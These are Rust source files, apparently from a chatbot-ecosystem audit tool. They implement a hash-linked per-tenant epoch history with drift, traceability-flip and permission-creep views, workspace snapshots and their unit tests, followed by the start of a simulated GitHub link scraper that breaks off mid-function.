pub fn fleet_drift_curves(tenants: &[(String, Vec<EpochRecord>)]) -> Vec<PlatformDrift> {
    let mut tenants_per_platform: BTreeMap<String, u32> = BTreeMap::new();
    let mut points: BTreeMap<String, BTreeMap<u32, DriftPoint>> = BTreeMap::new();
    for (_tenant, records) in tenants {
        let mut platforms_seen: std::collections::BTreeSet<String> =
            std::collections::BTreeSet::new();
        for record in records {
            let platform = record.platform.to_string();
            platforms_seen.insert(platform.clone());
            let point = points
                .entry(platform)
                .or_default()
                .entry(record.epoch)
                .or_insert(DriftPoint {
                    epoch: record.epoch,
                    drifted: 0,
                    unchanged: 0,
                    appeared: 0,
                    disappeared: 0,
                    new_detections: 0,
                    resolved_detections: 0,
                });
            point.drifted += record.trend.drifted;
            point.unchanged += record.trend.unchanged;
            point.appeared += record.trend.appeared;
            point.disappeared += record.trend.disappeared;
            point.new_detections += record.trend.new_detections;
            point.resolved_detections += record.trend.resolved_detections;
        }
        for platform in platforms_seen {
            *tenants_per_platform.entry(platform).or_insert(0) += 1;
        }
    }
    points
        .into_iter()
        .map(|(platform, by_epoch)| PlatformDrift {
            tenants: tenants_per_platform.get(&platform).copied().unwrap_or(0),
            platform,
            points: by_epoch.into_values().collect(),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::{EpochTrend, PermCreep, TraceFlip, ZERO_HASH};
    use crate::{hexhash, record::EpochRecord};
    use platform::PlatformKind;

    fn record(epoch: u32, platform: PlatformKind, trend: EpochTrend) -> EpochRecord {
        EpochRecord {
            epoch,
            prev_epoch: epoch.checked_sub(1),
            platform,
            parent: hexhash::to_hex(&ZERO_HASH),
            report_key: hexhash::to_hex(&ZERO_HASH),
            delta_key: None,
            artifact_keys: Vec::new(),
            bots: 10,
            trend,
        }
    }

    fn flip(bot: &str, from: &str, to: &str) -> TraceFlip {
        TraceFlip {
            bot: bot.into(),
            from: from.into(),
            to: to.into(),
        }
    }

    fn chain_with_flips() -> Vec<EpochRecord> {
        vec![
            record(0, PlatformKind::Discord, EpochTrend::default()),
            record(
                1,
                PlatformKind::Discord,
                EpochTrend {
                    drifted: 3,
                    unchanged: 7,
                    flips: vec![
                        flip("WobbleBot", "traceable", "untraceable"),
                        flip("OnceBot", "traceable", "untraceable"),
                    ],
                    permissions: vec![PermCreep {
                        bot: "WobbleBot".into(),
                        added: 3,
                        removed: 1,
                    }],
                    ..EpochTrend::default()
                },
            ),
            record(
                2,
                PlatformKind::Discord,
                EpochTrend {
                    drifted: 1,
                    unchanged: 9,
                    flips: vec![flip("WobbleBot", "untraceable", "traceable")],
                    permissions: vec![PermCreep {
                        bot: "WobbleBot".into(),
                        added: 2,
                        removed: 0,
                    }],
                    new_detections: 2,
                    ..EpochTrend::default()
                },
            ),
        ]
    }

    #[test]
    fn flip_counts_and_paths_accumulate_per_bot() {
        let query = TrendQuery::from_records(&chain_with_flips());
        let twice = query.flipped_at_least(2);
        assert_eq!(twice.len(), 1);
        assert_eq!(twice[0].bot, "WobbleBot");
        assert_eq!(twice[0].flips, 2);
        assert_eq!(twice[0].path, vec!["traceable", "untraceable", "traceable"]);
        let once = query.flipped_at_least(1);
        assert_eq!(once.len(), 2);
        assert_eq!(once[0].bot, "OnceBot"); // sorted by name
    }

    #[test]
    fn permission_creep_sums_since_epoch_zero() {
        let creep = TrendQuery::from_records(&chain_with_flips()).permission_creep();
        assert_eq!(creep.total_added, 5);
        assert_eq!(creep.total_removed, 1);
        assert_eq!(creep.by_bot.len(), 1);
        assert_eq!(creep.by_bot[0].added, 5);
    }

    #[test]
    fn drift_curve_has_one_point_per_epoch() {
        let curve = TrendQuery::from_records(&chain_with_flips()).drift_curve();
        assert_eq!(curve.len(), 3);
        assert_eq!(curve[1].drifted, 3);
        assert_eq!(curve[2].new_detections, 2);
    }

    #[test]
    fn fleet_curves_aggregate_per_platform_sorted() {
        let discord = chain_with_flips();
        let telegram = vec![record(
            0,
            PlatformKind::Telegram,
            EpochTrend {
                appeared: 4,
                ..EpochTrend::default()
            },
        )];
        // Tenant order must not matter.
        let forward = fleet_drift_curves(&[
            ("a".into(), discord.clone()),
            ("b".into(), discord.clone()),
            ("t".into(), telegram.clone()),
        ]);
        let backward = fleet_drift_curves(&[
            ("t".into(), telegram),
            ("b".into(), discord.clone()),
            ("a".into(), discord),
        ]);
        assert_eq!(forward, backward);
        assert_eq!(forward.len(), 2);
        assert_eq!(forward[0].platform, "discord");
        assert_eq!(forward[0].tenants, 2);
        assert_eq!(forward[0].points[1].drifted, 6); // 3 + 3 across tenants
        assert_eq!(forward[1].platform, "telegram");
        assert_eq!(forward[1].points[0].appeared, 4);
    }

    #[test]
    fn canonical_dump_is_stable() {
        let query = TrendQuery::from_records(&chain_with_flips());
        let dump = query.canonical_json();
        assert_eq!(dump, query.canonical_json());
        assert!(dump.contains("WobbleBot"));
        assert!(dump.contains("flipped_twice"));
    }
}
