//! Workspace templates: point-in-time tenant snapshots for what-if runs.
//!
//! A clone copies a tenant's *state* — artifact pack, validator cache, and
//! a genesis epoch record equal to the source's head — but none of its
//! *history*: the clone's chain starts at one frame, and the source's
//! journal of pipeline units is not carried over. That is exactly what a
//! cheap what-if re-audit needs: warm artifact hits and conditional
//! fetches from the snapshot, a delta baseline at the snapshot epoch, and
//! no risk of the experiment contaminating the original's history.

use std::io;
use std::sync::Arc;

use store::{ArtifactCache, Backend, PACK_FILE, VALIDATOR_FILE};

use crate::chain::{EpochChain, OPLOG_FILE};
use crate::hexhash;
use crate::record::{EpochRecord, EpochTrend, ZERO_HASH};

/// Snapshot `src`'s workspace into `dst` (both tenant-scoped backends).
///
/// Copies the artifact pack and validator cache byte-for-byte, then
/// commits a genesis epoch record mirroring `src`'s head (same epoch,
/// platform, report key, and artifact references; no delta, no trend, no
/// parent). Returns that genesis record.
///
/// Fails with [`io::ErrorKind::InvalidInput`] when `src` has no committed
/// epochs, and [`io::ErrorKind::AlreadyExists`] when `dst` already has an
/// oplog — clones only materialize into fresh workspaces.
pub fn clone_workspace(src: &Arc<dyn Backend>, dst: &Arc<dyn Backend>) -> io::Result<EpochRecord> {
    let source = EpochChain::open(Arc::clone(src))?;
    let head = source.head().ok_or_else(|| {
        io::Error::new(
            io::ErrorKind::InvalidInput,
            "source tenant has no committed epochs to snapshot",
        )
    })?;
    if dst
        .read(OPLOG_FILE)?
        .map(|bytes| !bytes.is_empty())
        .unwrap_or(false)
    {
        return Err(io::Error::new(
            io::ErrorKind::AlreadyExists,
            "destination workspace already has an epoch chain",
        ));
    }
    for file in [PACK_FILE, VALIDATOR_FILE] {
        if let Some(bytes) = src.read(file)? {
            dst.write_atomic(file, &bytes)?;
        }
    }
    // Re-derive the pack through a replay so a torn source pack is
    // repaired in the clone exactly as it would be on the source.
    ArtifactCache::open(Arc::clone(dst), PACK_FILE)?;
    let genesis = EpochRecord {
        epoch: head.epoch,
        prev_epoch: None,
        platform: head.platform,
        parent: hexhash::to_hex(&ZERO_HASH),
        report_key: head.report_key.clone(),
        delta_key: None,
        artifact_keys: head.artifact_keys.clone(),
        bots: head.bots,
        trend: EpochTrend::default(),
    };
    let mut chain = EpochChain::open(Arc::clone(dst))?;
    chain.append(genesis)?;
    Ok(chain.head().expect("genesis just appended").clone())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::tests::sample_record;
    use store::{ContentHash, MemBackend};

    fn mem() -> Arc<dyn Backend> {
        Arc::new(MemBackend::new())
    }

    fn seeded_source() -> Arc<dyn Backend> {
        let src = mem();
        let cache = ArtifactCache::open(Arc::clone(&src), PACK_FILE).unwrap();
        cache
            .put(ContentHash::of(b"artifact-a"), b"blob-a")
            .unwrap();
        src.append(VALIDATOR_FILE, b"validator-bytes").unwrap();
        let mut chain = EpochChain::open(Arc::clone(&src)).unwrap();
        chain.append(sample_record(0, ZERO_HASH)).unwrap();
        chain.append(sample_record(1, ZERO_HASH)).unwrap();
        src
    }

    #[test]
    fn clone_copies_state_but_not_history() {
        let src = seeded_source();
        let dst = mem();
        let genesis = clone_workspace(&src, &dst).unwrap();
        assert_eq!(genesis.epoch, 1);
        assert_eq!(genesis.prev_epoch, None);
        assert_eq!(genesis.delta_key, None);
        assert_eq!(genesis.trend, EpochTrend::default());
        // State came over byte-for-byte...
        assert_eq!(src.read(PACK_FILE).unwrap(), dst.read(PACK_FILE).unwrap());
        assert_eq!(
            dst.read(VALIDATOR_FILE).unwrap().as_deref(),
            Some(&b"validator-bytes"[..])
        );
        // ...but the chain is genesis-only and the source is untouched.
        let clone_chain = EpochChain::open(Arc::clone(&dst)).unwrap();
        assert_eq!(clone_chain.epochs(), vec![1]);
        assert_eq!(
            EpochChain::open(Arc::clone(&src)).unwrap().epochs(),
            vec![0, 1]
        );
    }

    #[test]
    fn clone_refuses_empty_sources_and_occupied_destinations() {
        let empty = mem();
        let dst = mem();
        let err = clone_workspace(&empty, &dst).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::InvalidInput);

        let src = seeded_source();
        clone_workspace(&src, &dst).unwrap();
        let err = clone_workspace(&src, &dst).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::AlreadyExists);
    }

    #[test]
    fn clone_is_a_fork_point_not_a_mirror() {
        let src = seeded_source();
        let dst = mem();
        clone_workspace(&src, &dst).unwrap();
        let mut clone_chain = EpochChain::open(Arc::clone(&dst)).unwrap();
        clone_chain.append(sample_record(2, ZERO_HASH)).unwrap();
        assert_eq!(clone_chain.epochs(), vec![1, 2]);
        // The source's chain never sees the what-if epoch.
        assert_eq!(
            EpochChain::open(Arc::clone(&src)).unwrap().epochs(),
            vec![0, 1]
        );
    }
}
