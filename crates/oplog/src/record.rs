//! The per-epoch commit record and its pre-digested trend summary.
//!
//! An [`EpochRecord`] is what the fleet daemon appends to a tenant's
//! [`EpochChain`](crate::chain::EpochChain) after each completed audit. It
//! never embeds the report or delta themselves — those are content-addressed
//! blobs in the tenant's artifact pack, referenced here by key — but it does
//! embed an [`EpochTrend`], the handful of counters and per-bot drift facts
//! that trend queries need. That split is what makes
//! [`TrendQuery`](crate::views::TrendQuery) answerable from the chain alone:
//! replaying the chain's small JSON frames materializes every view without
//! touching a single report blob, let alone re-running an audit.

use platform::PlatformKind;
use serde::{Deserialize, Serialize};
use store::ContentHash;

use crate::hexhash;

/// The all-zero hash: parent of a genesis frame, never a real content key.
pub const ZERO_HASH: ContentHash = ContentHash([0u8; 16]);

/// One bot's traceability verdict changing between consecutive epochs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceFlip {
    /// The bot's listing name.
    pub bot: String,
    /// Verdict at the previous epoch (lowercase, e.g. `"traceable"`).
    pub from: String,
    /// Verdict at this epoch.
    pub to: String,
}

/// One bot's permission-set churn between consecutive epochs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PermCreep {
    /// The bot's listing name.
    pub bot: String,
    /// Permissions gained this epoch.
    pub added: u32,
    /// Permissions dropped this epoch.
    pub removed: u32,
}

/// The pre-digested drift facts of one epoch, relative to the previous one.
///
/// A genesis epoch (no predecessor) carries the default: all counters zero,
/// no flips, no creep.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct EpochTrend {
    /// Bots present in both epochs whose canonical form changed.
    pub drifted: u32,
    /// Bots present in both epochs, byte-identical.
    pub unchanged: u32,
    /// Bots new in this epoch.
    pub appeared: u32,
    /// Bots gone since the previous epoch.
    pub disappeared: u32,
    /// Traceability verdict changes, in listing order.
    pub flips: Vec<TraceFlip>,
    /// Permission churn per bot, in listing order.
    pub permissions: Vec<PermCreep>,
    /// Policy/code detections that appeared this epoch.
    pub new_detections: u32,
    /// Detections that disappeared this epoch.
    pub resolved_detections: u32,
}

/// One committed epoch of one tenant: the chain frame payload.
///
/// `parent` hash-links the record to the exact bytes of its predecessor
/// frame, so the chain is tamper- and truncation-evident on open. All
/// content keys are rendered as 32-char lowercase hex (see
/// [`hexhash`](crate::hexhash)).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EpochRecord {
    /// This epoch's number (monotonically increasing per tenant, gaps
    /// allowed — an expired or failed submission consumes no epoch frame).
    pub epoch: u32,
    /// The epoch of the predecessor frame, `None` for a genesis frame.
    pub prev_epoch: Option<u32>,
    /// Platform the tenant audits.
    pub platform: PlatformKind,
    /// `frame_hash()` of the predecessor record, [`ZERO_HASH`] (as hex)
    /// for a genesis frame.
    pub parent: String,
    /// Artifact-pack key of this epoch's canonical report JSON.
    pub report_key: String,
    /// Artifact-pack key of this epoch's delta JSON, `None` for genesis.
    pub delta_key: Option<String>,
    /// Every artifact-pack key the completing run referenced (analysis
    /// artifacts and honeypot snapshots), sorted and deduplicated.
    pub artifact_keys: Vec<String>,
    /// Bots in this epoch's listing.
    pub bots: u32,
    /// Pre-digested drift facts vs the previous epoch.
    pub trend: EpochTrend,
}

impl EpochRecord {
    /// The canonical serialized form: exactly the bytes journaled as the
    /// chain frame payload, and the bytes `frame_hash` digests.
    pub fn canonical_json(&self) -> Vec<u8> {
        serde_json::to_vec(self).expect("epoch records always serialize")
    }

    /// The content hash of this record's canonical bytes — what the next
    /// frame stores as its `parent`.
    pub fn frame_hash(&self) -> ContentHash {
        ContentHash::of_parts(&[b"oplog-frame-v1", &self.canonical_json()])
    }

    /// All pack keys this record pins live: report, delta, and every
    /// referenced artifact. Unparseable hex entries are skipped (they can
    /// only arise from hand-edited files; compaction must not guess).
    pub fn live_keys(&self) -> Vec<ContentHash> {
        let mut keys = Vec::with_capacity(self.artifact_keys.len() + 2);
        keys.extend(hexhash::parse_hex(&self.report_key));
        if let Some(delta) = &self.delta_key {
            keys.extend(hexhash::parse_hex(delta));
        }
        for key in &self.artifact_keys {
            keys.extend(hexhash::parse_hex(key));
        }
        keys
    }
}

/// The pack key of an epoch's canonical report JSON blob.
pub fn report_blob_key(report_json: &[u8]) -> ContentHash {
    ContentHash::of_parts(&[b"oplog-report-v1", report_json])
}

/// The pack key of an epoch's delta JSON blob.
pub fn delta_blob_key(delta_json: &[u8]) -> ContentHash {
    ContentHash::of_parts(&[b"oplog-delta-v1", delta_json])
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn sample_record(epoch: u32, parent: ContentHash) -> EpochRecord {
        EpochRecord {
            epoch,
            prev_epoch: if epoch == 0 { None } else { Some(epoch - 1) },
            platform: PlatformKind::Discord,
            parent: hexhash::to_hex(&parent),
            report_key: hexhash::to_hex(&ContentHash::of(format!("report-{epoch}").as_bytes())),
            delta_key: (epoch > 0)
                .then(|| hexhash::to_hex(&ContentHash::of(format!("delta-{epoch}").as_bytes()))),
            artifact_keys: vec![
                hexhash::to_hex(&ContentHash::of(b"artifact-a")),
                hexhash::to_hex(&ContentHash::of(format!("artifact-{epoch}").as_bytes())),
            ],
            bots: 12,
            trend: EpochTrend {
                drifted: 2,
                unchanged: 9,
                appeared: 1,
                disappeared: 0,
                flips: vec![TraceFlip {
                    bot: "EchoBot".into(),
                    from: "traceable".into(),
                    to: "untraceable".into(),
                }],
                permissions: vec![PermCreep {
                    bot: "EchoBot".into(),
                    added: 2,
                    removed: 0,
                }],
                new_detections: 1,
                resolved_detections: 0,
            },
        }
    }

    #[test]
    fn records_roundtrip_through_canonical_json() {
        let record = sample_record(3, ContentHash::of(b"parent"));
        let bytes = record.canonical_json();
        let back: EpochRecord = serde_json::from_slice(&bytes).expect("roundtrip");
        assert_eq!(back, record);
        // Canonical bytes are stable: serializing again is byte-identical.
        assert_eq!(back.canonical_json(), bytes);
    }

    #[test]
    fn frame_hash_pins_every_field() {
        let base = sample_record(3, ContentHash::of(b"parent"));
        let mut bumped = base.clone();
        bumped.bots += 1;
        assert_ne!(base.frame_hash(), bumped.frame_hash());
        let mut relinked = base.clone();
        relinked.parent = hexhash::to_hex(&ContentHash::of(b"other-parent"));
        assert_ne!(base.frame_hash(), relinked.frame_hash());
    }

    #[test]
    fn live_keys_cover_report_delta_and_artifacts() {
        let record = sample_record(2, ContentHash::of(b"parent"));
        let keys = record.live_keys();
        assert_eq!(keys.len(), 4); // report + delta + 2 artifacts
        assert!(keys.contains(&ContentHash::of(b"artifact-a")));
        let genesis = sample_record(0, ZERO_HASH);
        assert_eq!(genesis.live_keys().len(), 3); // no delta at genesis
    }

    #[test]
    fn blob_keys_are_domain_separated() {
        let json = br#"{"bots":[]}"#;
        assert_ne!(report_blob_key(json), delta_blob_key(json));
        assert_ne!(report_blob_key(json), ContentHash::of(json));
    }
}
