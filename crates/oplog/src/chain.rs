//! The append-only, hash-linked epoch chain of one tenant.
//!
//! Persistence reuses the CRC-framed [`Journal`] from `store` verbatim: one
//! frame per committed epoch, kind [`K_EPOCH`], frame key = the epoch
//! number, payload = the record's canonical JSON. On top of the journal's
//! own torn-tail repair, the chain adds *linkage* verification: each record
//! names the content hash of its predecessor's exact bytes, so a frame that
//! decodes fine but does not extend the chain (wrong parent, non-monotonic
//! epoch) marks the chain **sealed** — the valid prefix stays readable, but
//! appends are refused rather than forking history.

use std::io;
use std::sync::Arc;

use store::{Backend, ContentHash, Journal};

use crate::hexhash;
use crate::record::{EpochRecord, ZERO_HASH};

/// The tenant-scoped file the epoch chain journals to.
pub const OPLOG_FILE: &str = "oplog.wal";

/// Frame kind of a committed epoch record.
///
/// Distinct from every kind the resumable pipeline journals (`0x00xx`) and
/// from the validator cache's (`0x01xx`); the oplog lives in its own file,
/// but unique kinds keep frames self-describing if files are ever merged.
pub const K_EPOCH: u16 = 0x0200;

/// A tenant's epoch history: replayed on open, extended by append.
pub struct EpochChain {
    journal: Journal,
    records: Vec<EpochRecord>,
    sealed: bool,
}

impl EpochChain {
    /// Open (creating if absent) the chain journaled in `backend`'s
    /// [`OPLOG_FILE`].
    ///
    /// Replays every epoch frame and verifies linkage; the first frame that
    /// fails to decode, names the wrong parent hash, or does not increase
    /// the epoch number ends the replay and seals the chain. A sealed chain
    /// still serves reads over its valid prefix.
    pub fn open(backend: Arc<dyn Backend>) -> io::Result<EpochChain> {
        let (journal, replay) = Journal::open(backend, OPLOG_FILE)?;
        let mut records: Vec<EpochRecord> = Vec::new();
        let mut sealed = false;
        let mut expected_parent = hexhash::to_hex(&ZERO_HASH);
        for frame in &replay.frames {
            if frame.kind != K_EPOCH {
                continue;
            }
            let record: EpochRecord = match serde_json::from_slice(&frame.payload) {
                Ok(record) => record,
                Err(_) => {
                    sealed = true;
                    break;
                }
            };
            let extends = record.parent == expected_parent
                && records
                    .last()
                    .map(|head: &EpochRecord| record.epoch > head.epoch)
                    .unwrap_or(true);
            if !extends {
                sealed = true;
                break;
            }
            expected_parent = hexhash::to_hex(&record.frame_hash());
            records.push(record);
        }
        Ok(EpochChain {
            journal,
            records,
            sealed,
        })
    }

    /// Commit `record` as the new head.
    ///
    /// The chain fills in the linkage itself — `prev_epoch` and `parent`
    /// are overwritten from the current head — so callers only provide the
    /// epoch's content. Fails if the chain is sealed or `record.epoch` does
    /// not exceed the head's epoch; the journal append is durable before
    /// the in-memory head moves.
    pub fn append(&mut self, mut record: EpochRecord) -> io::Result<&EpochRecord> {
        if self.sealed {
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                "epoch chain is sealed (damaged or forked tail); refusing to extend it",
            ));
        }
        match self.records.last() {
            Some(head) => {
                if record.epoch <= head.epoch {
                    return Err(io::Error::new(
                        io::ErrorKind::InvalidInput,
                        format!(
                            "epoch {} does not extend the chain head (epoch {})",
                            record.epoch, head.epoch
                        ),
                    ));
                }
                record.prev_epoch = Some(head.epoch);
                record.parent = hexhash::to_hex(&head.frame_hash());
            }
            None => {
                record.prev_epoch = None;
                record.parent = hexhash::to_hex(&ZERO_HASH);
            }
        }
        self.journal
            .append(K_EPOCH, record.epoch as u64, record.canonical_json())?;
        self.records.push(record);
        Ok(self.records.last().expect("just pushed"))
    }

    /// The committed records, genesis first.
    pub fn records(&self) -> &[EpochRecord] {
        &self.records
    }

    /// The newest committed record, if any.
    pub fn head(&self) -> Option<&EpochRecord> {
        self.records.last()
    }

    /// Number of committed epochs.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// Whether the chain has no committed epochs.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// Whether open found a damaged/forked tail and refused further appends.
    pub fn is_sealed(&self) -> bool {
        self.sealed
    }

    /// Every committed epoch number, genesis first.
    pub fn epochs(&self) -> Vec<u32> {
        self.records.iter().map(|r| r.epoch).collect()
    }

    /// The union of pack keys pinned live by the last `keep_last` epochs
    /// (at least the head is always kept), sorted and deduplicated — the
    /// keep-set generational compaction hands to the artifact cache.
    pub fn live_keys(&self, keep_last: usize) -> Vec<ContentHash> {
        let keep = keep_last.max(1).min(self.records.len());
        let mut keys: std::collections::BTreeSet<ContentHash> = std::collections::BTreeSet::new();
        for record in &self.records[self.records.len() - keep..] {
            keys.extend(record.live_keys());
        }
        keys.into_iter().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::tests::sample_record;
    use store::MemBackend;

    fn mem() -> Arc<dyn Backend> {
        Arc::new(MemBackend::new())
    }

    #[test]
    fn appends_link_and_survive_reopen() {
        let backend = mem();
        let mut chain = EpochChain::open(Arc::clone(&backend)).unwrap();
        assert!(chain.is_empty() && !chain.is_sealed());
        for epoch in [0u32, 1, 3] {
            chain.append(sample_record(epoch, ZERO_HASH)).unwrap();
        }
        assert_eq!(chain.epochs(), vec![0, 1, 3]);
        // Linkage was filled in by the chain, not trusted from the caller.
        assert_eq!(chain.records()[0].parent, hexhash::to_hex(&ZERO_HASH));
        assert_eq!(chain.records()[2].prev_epoch, Some(1));
        assert_eq!(
            chain.records()[2].parent,
            hexhash::to_hex(&chain.records()[1].frame_hash())
        );
        let records = chain.records().to_vec();
        drop(chain);
        let reopened = EpochChain::open(backend).unwrap();
        assert!(!reopened.is_sealed());
        assert_eq!(reopened.records(), &records[..]);
    }

    #[test]
    fn non_monotonic_epochs_are_refused() {
        let mut chain = EpochChain::open(mem()).unwrap();
        chain.append(sample_record(2, ZERO_HASH)).unwrap();
        let err = chain.append(sample_record(2, ZERO_HASH)).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::InvalidInput);
        assert_eq!(chain.len(), 1);
    }

    #[test]
    fn wrong_parent_frame_seals_the_chain_at_its_valid_prefix() {
        let backend: Arc<MemBackend> = Arc::new(MemBackend::new());
        let dynamic: Arc<dyn Backend> = Arc::clone(&backend) as Arc<dyn Backend>;
        let mut chain = EpochChain::open(Arc::clone(&dynamic)).unwrap();
        chain.append(sample_record(0, ZERO_HASH)).unwrap();
        chain.append(sample_record(1, ZERO_HASH)).unwrap();
        drop(chain);
        // Append a well-formed frame whose parent hash is garbage: a fork.
        let (journal, _) = Journal::open(Arc::clone(&dynamic), OPLOG_FILE).unwrap();
        let mut forged = sample_record(2, ZERO_HASH);
        forged.parent = hexhash::to_hex(&ContentHash::of(b"not the head"));
        journal.append(K_EPOCH, 2, forged.canonical_json()).unwrap();
        drop(journal);
        let reopened = EpochChain::open(dynamic).unwrap();
        assert!(reopened.is_sealed());
        assert_eq!(reopened.epochs(), vec![0, 1]);
        let mut sealed = reopened;
        let err = sealed.append(sample_record(5, ZERO_HASH)).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::InvalidData);
    }

    #[test]
    fn torn_tail_is_repaired_by_the_journal_without_sealing() {
        let backend: Arc<MemBackend> = Arc::new(MemBackend::new());
        let dynamic: Arc<dyn Backend> = Arc::clone(&backend) as Arc<dyn Backend>;
        let mut chain = EpochChain::open(Arc::clone(&dynamic)).unwrap();
        chain.append(sample_record(0, ZERO_HASH)).unwrap();
        chain.append(sample_record(1, ZERO_HASH)).unwrap();
        drop(chain);
        // A crash mid-append leaves a half-written frame; the journal
        // truncates it, leaving an intact (unsealed) shorter chain.
        let bytes = backend.read(OPLOG_FILE).unwrap().unwrap();
        backend.poke(OPLOG_FILE, bytes[..bytes.len() - 7].to_vec());
        let mut reopened = EpochChain::open(dynamic).unwrap();
        assert!(!reopened.is_sealed());
        assert_eq!(reopened.epochs(), vec![0]);
        reopened.append(sample_record(4, ZERO_HASH)).unwrap();
        assert_eq!(reopened.epochs(), vec![0, 4]);
    }

    #[test]
    fn live_keys_union_the_last_k_records() {
        let mut chain = EpochChain::open(mem()).unwrap();
        for epoch in 0..4 {
            chain.append(sample_record(epoch, ZERO_HASH)).unwrap();
        }
        let last_two = chain.live_keys(2);
        // Shared artifact-a + per-epoch artifact/report/delta keys.
        assert!(last_two.contains(&ContentHash::of(b"artifact-a")));
        assert!(last_two.contains(&ContentHash::of(b"artifact-3")));
        assert!(!last_two.contains(&ContentHash::of(b"artifact-1")));
        let everything = chain.live_keys(usize::MAX);
        assert!(everything.len() > last_two.len());
        // Zero is clamped to "keep the head".
        assert_eq!(chain.live_keys(0), chain.live_keys(1));
        let sorted = {
            let mut copy = last_two.clone();
            copy.sort();
            copy
        };
        assert_eq!(last_two, sorted);
    }
}
