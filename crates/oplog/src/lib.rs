//! # oplog — per-tenant longitudinal history for the fleet
//!
//! The paper's core finding is that chatbot ecosystems *drift*: permissions
//! creep release over release, privacy policies churn, bots flip between
//! traceable and untraceable (§5–§6). The fleet layer in `chatbot-audit`
//! retained only each tenant's last report, so every longitudinal question
//! ("which bots flipped traceability twice?", "how much permission creep
//! since epoch 0?") required replaying audits. This crate is the missing
//! history layer:
//!
//! * [`record`] — the [`EpochRecord`] committed per completed epoch: the
//!   content-hash keys of the epoch's canonical report, its delta against
//!   the previous epoch, and every artifact-pack blob the run referenced,
//!   plus a pre-digested [`EpochTrend`] so trend queries never touch the
//!   report blobs;
//! * [`chain`] — the [`EpochChain`]: an append-only, hash-linked sequence
//!   of epoch records persisted through the same CRC-framed journal
//!   machinery as the rest of `store`. Each frame carries the hash of its
//!   parent frame, so a damaged or forked chain is detected on open and
//!   truncated to its longest valid prefix;
//! * [`views`] — materialized trend views over a chain ([`TrendQuery`])
//!   and across a fleet ([`fleet_drift_curves`]): traceability flips,
//!   cumulative permission creep, and drift curves per platform, all
//!   answered from the chain alone with zero audit replays;
//! * [`compact`] — generational pack compaction: drop every artifact blob
//!   not referenced by the last K epochs, atomically, with the same
//!   crash-safety contract as the rest of the store (a crash mid-compaction
//!   leaves either the old or the new generation fully intact);
//! * [`clone`] — workspace templates: a point-in-time snapshot of a
//!   tenant's pack + validator cache + head epoch, with no history, for
//!   cheap what-if re-audits.
//!
//! Hashes cross the serialization boundary as 32-char lowercase hex
//! strings (see [`hexhash`]) so `store` itself stays dependency-free.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod chain;
pub mod clone;
pub mod compact;
pub mod hexhash;
pub mod record;
pub mod views;

pub use chain::{EpochChain, K_EPOCH, OPLOG_FILE};
pub use clone::clone_workspace;
pub use compact::{compact_generations, CompactionOutcome};
pub use hexhash::{parse_hex, to_hex};
pub use record::{
    delta_blob_key, report_blob_key, EpochRecord, EpochTrend, PermCreep, TraceFlip, ZERO_HASH,
};
pub use views::{
    fleet_drift_curves, BotFlips, CreepEntry, DriftPoint, PermissionCreep, PlatformDrift,
    TrendQuery,
};
