//! GitHub-site simulation and the link-resolution scraper.
//!
//! §4.2: "We built a Web scraper that visits the GitHub links extracted
//! from the top.gg website to check for the presence of the GitHub code
//! section. … The rest [of the] links take us to user profiles, a GitHub
//! with no repositories, a GitHub with no public repositories, or an
//! invalid link."

use crate::repo::{Repository, SourceFile};
use htmlsim::build::el;
use htmlsim::render::render_document;
use htmlsim::{parse_document, Document, Locator};
use netsim::http::{Request, Response, Status, Url};
use netsim::{HttpClient, NetError, Network, Service, ServiceCtx};
use parking_lot::Mutex;
use std::collections::BTreeMap;
use std::sync::Arc;

/// Canonical host for the simulated GitHub.
pub const GITHUB_HOST: &str = "github.sim";

/// What a scraped GitHub link turned out to be.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LinkOutcome {
    /// A valid repository; contents were downloaded.
    ValidRepo(Repository),
    /// A user profile (with repositories, but the link names none).
    UserProfile,
    /// A profile with no public repositories.
    NoPublicRepos,
    /// Dead or malformed link.
    Invalid,
}

#[derive(Default)]
struct SiteInner {
    repos: BTreeMap<String, Repository>,
    profiles: BTreeMap<String, Vec<String>>,
}

/// The repository-hosting site. Clone freely; mount once.
#[derive(Clone, Default)]
pub struct GitHubSite {
    inner: Arc<Mutex<SiteInner>>,
}

impl GitHubSite {
    /// An empty site.
    pub fn new() -> GitHubSite {
        GitHubSite::default()
    }

    /// Publish a repository under its `owner/name` slug.
    pub fn publish(&self, repo: Repository) {
        let mut inner = self.inner.lock();
        let owner = repo.slug.split('/').next().unwrap_or("").to_string();
        inner
            .profiles
            .entry(owner)
            .or_default()
            .push(repo.slug.clone());
        inner.repos.insert(repo.slug.clone(), repo);
    }

    /// Register a profile with no public repositories.
    pub fn publish_empty_profile(&self, owner: &str) {
        self.inner
            .lock()
            .profiles
            .entry(owner.to_string())
            .or_default();
    }

    /// Mount the site on the network at [`GITHUB_HOST`].
    pub fn mount(&self, net: &Network) {
        net.mount(GITHUB_HOST, self.clone());
    }

    /// URL of a repository page.
    pub fn repo_url(slug: &str) -> Url {
        Url::https(GITHUB_HOST, &format!("/{slug}"))
    }

    /// URL of a profile page.
    pub fn profile_url(owner: &str) -> Url {
        Url::https(GITHUB_HOST, &format!("/{owner}"))
    }

    /// FNV-1a content validator over the inputs that feed a view's render,
    /// computed before rendering so a 304 skips the render entirely.
    fn view_etag(parts: &[&[u8]]) -> String {
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        for part in parts {
            for &b in *part {
                h ^= b as u64;
                h = h.wrapping_mul(0x0000_0100_0000_01b3);
            }
            h ^= 0xff;
